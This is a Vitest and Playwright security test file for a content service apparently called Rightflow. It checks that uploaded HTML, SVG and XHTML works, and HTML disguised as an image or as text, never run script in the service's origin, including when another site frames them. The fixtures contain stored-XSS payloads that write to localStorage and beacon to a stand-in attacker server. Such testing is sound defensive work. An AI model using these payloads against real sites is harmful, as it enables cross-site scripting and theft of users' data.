import { createServer, type Server } from 'node:http'
import { type Hex, sha256Bytes } from '@rightflow/sdk'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { freePort } from '../src/embedded/startAnvil.js'
import { type Harness, startHarness, submission } from './api/serverHarness.js'
import { type Chromium, collectPageErrors, launchChromium } from './support/chromium.js'
import { makeSigned } from './support/records.js'
import { fundedActor } from './support/rightsActors.js'

const marker = 'ran in the origin of Rightflow'
/** A 1×1 PNG: a passive work that must still display. */
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
)

let h: Harness
let browser: Chromium
/** Another site: it counts the beacons of any work that ran, and serves the attacker's page that embeds works. */
let elsewhere: { server: Server; url: string; beacons: string[]; page: string }
const works = new Map<string, Hex>()

/** What a hostile work does when it runs: marks the page, writes our origin's storage, calls home. */
const payload = (name: string) =>
  `document.title = '${marker}'; localStorage.setItem('pwned', '${name}'); ` +
  `new Image().src = '${elsewhere.url}/beacon?${name}'`
const hostile: { name: string; declared: string; bytes: () => string }[] = [
  { name: 'html', declared: 'text/html', bytes: () => `<!doctype html><script>${payload('html')}</script>` },
  {
    name: 'svg',
    declared: 'image/svg+xml',
    bytes: () => `<svg xmlns="http://www.w3.org/2000/svg"><script>${payload('svg')}</script></svg>`,
  },
  {
    name: 'xhtml',
    declared: 'application/xhtml+xml',
    bytes: () => `<html xmlns="http://www.w3.org/1999/xhtml"><script>${payload('xhtml')}</script></html>`,
  },
  // The declared type is the uploader's word: HTML that claims to be an image or text must not be sniffed into a page.
  {
    name: 'html-as-png',
    declared: 'image/png',
    bytes: () => `<!doctype html><script>${payload('png')}</script>`,
  },
  {
    name: 'html-as-text',
    declared: 'text/plain',
    bytes: () => `<!doctype html><script>${payload('text')}</script>`,
  },
]

async function upload(bytes: Uint8Array, mediaType: string): Promise<Hex> {
  const creator = await fundedActor(h.chain)
  const contentHash = sha256Bytes(bytes)
  const record = await makeSigned(creator.account, h.domain, { contentHash, mediaType })
  expect((await h.post('/v1/records', submission(record))).status).toBe(202)
  expect((await h.putContent(creator.account, bytes)).status).toBe(201)
  return contentHash
}

/** Opens `url` as a person would (address bar): a rendered page, or the download the browser made instead. */
async function open(url: string): Promise<{ page: Page; downloaded: boolean }> {
  const page = await browser.context.newPage()
  const download = page.waitForEvent('download', { timeout: 10_000 }).catch(() => undefined)
  const opened = await page.goto(url).then(
    () => true,
    (error: Error) => {
      if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error
      return false
    },
  )
  if (opened) return { page, downloaded: false }
  return { page, downloaded: (await download) !== undefined }
}

/** What a work wrote into our origin's storage; `clear` starts a test afresh. (Page code as strings: no DOM types here.) */
async function ourStorage(clear = false): Promise<string | null> {
  const page = await browser.context.newPage()
  await page.goto(`${h.server.url}/app/`)
  const value = await page.evaluate<string | null>("localStorage.getItem('pwned')")
  if (clear) await page.evaluate('localStorage.clear()')
  await page.close()
  return value
}

beforeAll(async () => {
  const port = await freePort()
  // `localhost`, not 127.0.0.1: another origin than the server's, as an attacker's site would be.
  elsewhere = { url: `http://localhost:${port}`, beacons: [], page: '' } as unknown as typeof elsewhere
  elsewhere.server = createServer((request, response) => {
    if (request.url?.startsWith('/beacon')) elsewhere.beacons.push(request.url)
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(request.url === '/attack' ? elsewhere.page : '')
  })
  await new Promise<void>((resolve) => elsewhere.server.listen(port, '127.0.0.1', resolve))
  h = await startHarness()
  for (const work of hostile)
    works.set(work.name, await upload(new TextEncoder().encode(work.bytes()), work.declared))
  works.set('png', await upload(png, 'image/png'))
  browser = await launchChromium()
}, 120_000)

// Each test sees only what its own works did.
beforeEach(async () => {
  await ourStorage(true)
  elsewhere.beacons.length = 0
})

afterAll(async () => {
  await browser?.close()
  await h?.stop()
  await new Promise((resolve) => elsewhere?.server.close(resolve))
})

describe('active content from our origin, in Chromium', () => {
  it('active content from our origin: an uploaded HTML, SVG or XHTML work opened from the API downloads and never runs', async () => {
    for (const name of ['html', 'svg', 'xhtml']) {
      const { page, downloaded } = await open(`${h.server.url}/v1/content/${works.get(name)}`)
      expect({ name, downloaded }).toEqual({ name, downloaded: true })
      expect(await page.title()).not.toBe(marker)
      await page.close()
    }
    expect(await ourStorage()).toBeNull()
    expect(elsewhere.beacons).toEqual([])
  })

  it('active content from our origin: HTML declared as an image or as text is shown as such, never as a page', async () => {
    const asImage = await open(`${h.server.url}/v1/content/${works.get('html-as-png')}`)
    expect(asImage.downloaded).toBe(false)
    expect(await asImage.page.title()).not.toBe(marker)
    expect(await asImage.page.evaluate("document.querySelectorAll('script').length")).toBe(0)
    await asImage.page.close()
    const asText = await open(`${h.server.url}/v1/content/${works.get('html-as-text')}`)
    expect(await asText.page.title()).not.toBe(marker)
    // Shown as its source text.
    expect(await asText.page.evaluate<string>('document.body.textContent')).toContain('<script>')
    await asText.page.close()
    expect(await ourStorage()).toBeNull()
    expect(elsewhere.beacons).toEqual([])
  })

  it('active content from our origin: another site that frames or embeds a work cannot run it in our origin', async () => {
    const urls = [...works.values()].map((hash) => `${h.server.url}/v1/content/${hash}`)
    elsewhere.page = `<!doctype html>${urls
      .map((url) => `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`)
      .join('')}`
    const page = await browser.context.newPage()
    // `load` waits for every frame and embedded object.
    await page.goto(`${elsewhere.url}/attack`, { waitUntil: 'load' })
    const frames = page.frames().filter((frame) => frame.url().startsWith(h.server.url))
    expect(frames.length).toBeGreaterThan(0)
    for (const frame of frames)
      expect({ url: frame.url(), title: await frame.title() }).not.toEqual({
        url: frame.url(),
        title: marker,
      })
    await page.close()
    expect(await ourStorage()).toBeNull()
    expect(elsewhere.beacons).toEqual([])
  })

  it('still displays a passive work (an image) in the browser', async () => {
    const { page, downloaded } = await open(`${h.server.url}/v1/content/${works.get('png')}`)
    expect(downloaded).toBe(false)
    expect(await page.evaluate('document.images[0]?.naturalWidth')).toBe(1)
    await page.close()
  })

  it('the web app and /docs work under their own CSP, without a script error or a blocked load', async () => {
    const errors: string[] = []
    const app = await browser.context.newPage()
    collectPageErrors(app, errors)
    await app.goto(`${h.server.url}/app/`)
    await expect.poll(() => app.locator('#network').textContent()).toContain(`eip155:${h.chain.chainId}`)
    const docs = await browser.context.newPage()
    collectPageErrors(docs, errors)
    await docs.goto(`${h.server.url}/docs`)
    await docs.locator('.swagger-ui .info .title').waitFor()
    expect(await docs.locator('.swagger-ui .info .title').textContent()).toContain('Rightflow')
    await docs.locator('.opblock').first().waitFor()
    expect(errors).toEqual([])
    await app.close()
    await docs.close()
  })
})
